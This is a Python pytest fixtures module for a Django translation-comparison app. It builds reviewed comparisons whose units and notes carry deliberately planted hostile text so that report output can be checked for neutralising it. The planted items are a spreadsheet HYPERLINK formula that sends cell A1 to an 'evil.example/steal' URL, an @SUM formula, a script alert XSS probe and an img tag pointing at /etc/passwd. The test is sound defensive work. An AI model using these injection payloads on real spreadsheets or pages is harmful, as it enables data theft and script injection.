"""A reviewed comparison for the report tests: confirmed, dismissed and editor flags,
units marked ok and flagged, and hostile text planted where reports must defuse it."""

from __future__ import annotations

from datetime import timedelta

import pytest
from django.utils import timezone

from articles.models import AlignmentUnit, Comparison, Flag
from tests.builders import build_comparison

HOSTILE_NOTE = '=HYPERLINK("http://evil.example/steal?x="&A1,"click")'
AT_SENTENCE = "@SUM(1+1) was typed by a reader into the comment box."
ARABIC_NAME = "سعيد خطيب زاده"


def review(comparison: Comparison, editor) -> Comparison:
    """Review a comparison as an editor would, through the ORM.

    Accept the first suggested flag of every other flagged unit, dismiss the rest,
    add an editor flag with a planted formula note, mark the reviewed units.
    """
    now = timezone.now()
    units = list(comparison.units.order_by("position").prefetch_related("flags"))
    suggested_units = [u for u in units if any(f.status == "suggested" for f in u.flags.all())]
    for index, unit in enumerate(suggested_units):
        flags = [f for f in unit.flags.all() if f.status == "suggested"]
        if index % 2 == 0:
            first, *rest = flags
            Flag.objects.filter(pk=first.pk).update(
                status=Flag.Status.CONFIRMED, author=editor, severity=first.severity or "major"
            )
            Flag.objects.filter(pk__in=[f.pk for f in rest]).update(
                status=Flag.Status.DISMISSED, author=editor
            )
            state = AlignmentUnit.ReviewState.FLAGGED
        else:
            Flag.objects.filter(pk__in=[f.pk for f in flags]).update(
                status=Flag.Status.DISMISSED, author=editor
            )
            state = AlignmentUnit.ReviewState.OK
        AlignmentUnit.objects.filter(pk=unit.pk).update(
            review_state=state, reviewed_by=editor, reviewed_at=now
        )
    # An editor flag with a note on a unit the analysis left alone.
    quiet = next(u for u in units if u.pk not in {s.pk for s in suggested_units} and u.source_text)
    Flag.objects.create(
        unit=quiet,
        category="attribution.hedge",
        severity="minor",
        origin=Flag.Origin.EDITOR,
        status=Flag.Status.CONFIRMED,
        source_span=quiet.source_text.split()[0],
        target_span=(quiet.target_text.split() or [""])[0],
        note=HOSTILE_NOTE,
        author=editor,
        created_at=now - timedelta(minutes=5),
    )
    AlignmentUnit.objects.filter(pk=quiet.pk).update(
        review_state=AlignmentUnit.ReviewState.FLAGGED, reviewed_by=editor, reviewed_at=now
    )
    Comparison.objects.filter(pk=comparison.pk).update(
        status=Comparison.Status.IN_REVIEW, last_editor=editor, last_activity_at=now
    )
    comparison.refresh_from_db()
    return comparison


HOSTILE_UNITS = [
    ("Mutual bombing between US forces and Iranian militias", "Mutual bombing by US forces"),
    (
        "“There are no casualties,” Colonel Wayne Maroto said – © Reuters.",
        "“No one was injured,” said Colonel Wayne Malotto.",
    ),
    (
        "US Secretary of State Anthony Blinken defended the strikes.",
        "US Secretary of State Anthony Brinken defended the attacks.",
    ),
    (
        f"Spokesman {ARABIC_NAME} (Saeed Khatibzadeh) spoke on Monday.",
        "Said Khatibzad spoke on Monday.",
    ),
    (
        'See <img src="file:///etc/passwd"> and [click](http://evil.example/) now.',
        "<script>alert(1)</script> **bold** http://evil.example/x www.evil.example",
    ),
    ("She vowed revenge.", "They vowed to retaliate."),
    ("A caveat sentence that was dropped.", ""),
    ("", AT_SENTENCE),
    ("Iran called on the United States not to provoke a crisis.", "-1 Iran calls on the US."),
]

HOSTILE_FLAGS = {
    1: [
        {
            "category": "factual.name",
            "severity": "major",
            "source_span": "Maroto",
            "target_span": "Malotto",
            "reason": "name changed",
        },
    ],
    2: [
        {
            "category": "factual.name",
            "severity": "major",
            "source_span": "Blinken",
            "target_span": "Brinken",
        },
    ],
    3: [
        {
            "category": "factual.name",
            "severity": "minor",
            "source_span": "Khatibzadeh",
            "target_span": "Khatibzad",
        },
    ],
    4: [
        {
            "category": "factual.meaning",
            "severity": "minor",
            "source_span": "<img",
            "target_span": "<script>",
        },
    ],
    5: [
        {
            "category": "attribution.pronoun",
            "severity": "major",
            "source_span": "She",
            "target_span": "They",
        },
        {
            "category": "attribution.quote",
            "severity": "minor",
            "source_span": "revenge",
            "target_span": "retaliate",
        },
    ],
    6: [{"category": "omission", "severity": "critical"}],
    7: [{"category": "addition", "severity": "minor", "target_span": "@SUM(1+1)"}],
    8: [
        {
            "category": "attribution.hedge",
            "severity": "minor",
            "source_span": "not to provoke",
            "target_span": "calls on",
        },
    ],
}


@pytest.fixture
def reviewed(db, editor) -> Comparison:
    """A hand-built comparison (no analysis needed), reviewed."""
    comparison = build_comparison(
        HOSTILE_UNITS,
        title="Mutual bombing between US forces and Iranian militias",
        flags=HOSTILE_FLAGS,
    )
    comparison = review(comparison, editor)
    # The unit with planted markup must be in every report: confirm its flag.
    hostile = comparison.units.get(position=4)
    hostile.flags.update(status=Flag.Status.CONFIRMED, author=editor)
    AlignmentUnit.objects.filter(pk=hostile.pk).update(
        review_state=AlignmentUnit.ReviewState.FLAGGED
    )
    return comparison


@pytest.fixture
def reviewed_seed(seed_comparison, editor) -> Comparison:
    """The seed comparison as `make run` imports it, then reviewed."""
    return review(seed_comparison, editor)


def flagged_units(comparison: Comparison) -> list[AlignmentUnit]:
    """The units every report must show: flagged, or holding a confirmed flag."""
    return [
        unit
        for unit in comparison.units.order_by("position").prefetch_related("flags")
        if unit.review_state == AlignmentUnit.ReviewState.FLAGGED
        or any(f.status == Flag.Status.CONFIRMED for f in unit.flags.all())
    ]


def as_text(document) -> str:
    return "".join(p if isinstance(p, str) else p.decode("utf-8") for p in document.pieces)


def as_bytes(document) -> bytes:
    return b"".join(p if isinstance(p, bytes) else p.encode("utf-8") for p in document.pieces)
